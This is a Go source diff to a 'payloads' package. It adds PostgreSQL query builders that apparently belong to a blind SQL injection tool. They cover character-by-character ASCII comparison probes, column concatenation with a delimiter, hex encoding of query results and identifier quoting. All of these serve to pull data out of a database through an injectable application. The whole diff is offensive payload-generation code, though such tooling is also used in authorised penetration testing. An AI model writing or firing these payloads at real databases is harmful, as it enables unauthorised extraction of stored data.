@@ -1,6 +1,9 @@
 package payloads
 
-import "fmt"
+import (
+	"fmt"
+	"strings"
+)
 
 // PostgreSQLPayloads implements payloads for PostgreSQL
 type PostgreSQLPayloads struct{}
@@ -40,6 +43,23 @@ func (p *PostgreSQLPayloads) GetCharPayload(query string, pos int, n int) string
 	return fmt.Sprintf("ASCII(SUBSTRING((%s),%d,1))>%d", query, pos, n)
 }
 
+func (p *PostgreSQLPayloads) GetCodePayload(query string, pos int, n int) string {
+	// ASCII() already returns the code point on UTF8 databases
+	return fmt.Sprintf("ASCII(SUBSTRING((%s),%d,1))>%d", query, pos, n)
+}
+
+func (p *PostgreSQLPayloads) GetConcatPayload(columns []string, delim string) string {
+	cells := make([]string, len(columns))
+	for i, col := range columns {
+		cells[i] = fmt.Sprintf("COALESCE(CAST(%s AS TEXT),'')", col)
+	}
+	return strings.Join(cells, fmt.Sprintf("||'%s'||", delim))
+}
+
+func (p *PostgreSQLPayloads) GetHexQuery(query string) string {
+	return fmt.Sprintf("ENCODE(CONVERT_TO(CAST((%s) AS TEXT),'UTF8'),'hex')", query)
+}
+
 func (p *PostgreSQLPayloads) GetSubstringFunc() string {
 	return "SUBSTRING"
 }
@@ -51,3 +71,8 @@ func (p *PostgreSQLPayloads) GetLengthFunc() string {
 func (p *PostgreSQLPayloads) WrapCondition(condition string) string {
 	return condition
 }
+
+func (p *PostgreSQLPayloads) QuoteIdentifier(name string) string {
+	// Quoted names are case-sensitive, only quote when needed
+	return quoteIdentifier(name, `"`, `"`, needsQuoting)
+}